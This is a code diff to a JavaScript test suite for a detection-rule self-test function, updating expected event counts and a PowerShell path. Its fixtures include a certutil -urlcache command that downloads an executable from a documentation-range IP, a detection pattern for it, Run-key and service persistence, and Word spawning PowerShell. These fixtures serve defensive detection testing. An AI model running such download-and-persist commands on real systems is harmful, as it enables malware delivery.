@@ -14,10 +14,11 @@ describe('selfTestRule', () => {
       { type: 'domain', value: 'update-check.example' },
     ];
     const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
-    // The command's process, the connection to its URL's address and the file it writes; the domain's query, connection and proxy request.
+    // The command's process, the cmd.exe an operator ran it in and the program as that shell's child, the connection to
+    // its URL's address and the file it writes; the domain's query, connection and proxy request.
     expect(result).toMatchObject({
       fires: true,
-      events: 6,
+      events: 8,
       fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'],
     });
   });
@@ -50,7 +51,10 @@ describe('selfTestRule', () => {
           TargetObject: expect.stringMatching(/^HKU\\S-1-5-21-[\d-]+\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater$/),
         }),
         expect.objectContaining({ EventID: 7045, ServiceName: 'WinSvcHost', ImagePath: 'C:\\ProgramData\\svc.exe' }),
-        expect.objectContaining({ Image: 'C:\\Windows\\System32\\powershell.exe', ParentImage: 'C:\\Windows\\System32\\winword.exe' }),
+        expect.objectContaining({
+          Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+          ParentImage: 'C:\\Windows\\System32\\winword.exe',
+        }),
         expect.objectContaining({ DestinationIp: '198.51.100.7' }),
       ]),
     );
